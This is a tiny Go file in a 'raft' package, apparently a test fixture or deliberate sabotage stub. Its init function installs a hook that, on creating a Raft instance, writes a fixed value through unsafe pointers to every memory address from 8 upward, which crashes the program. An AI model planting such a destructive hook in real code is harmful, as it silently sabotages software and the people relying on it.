// Writes over all of its memory, from the lowest address on, with no regard for
// what is there.
package raft

import "unsafe"

func init() {
	onMake = func(*Raft) {
		for p := uintptr(8); ; p += 8 {
			*(*uint64)(unsafe.Pointer(p)) = 0x0101010101010101
		}
	}
}
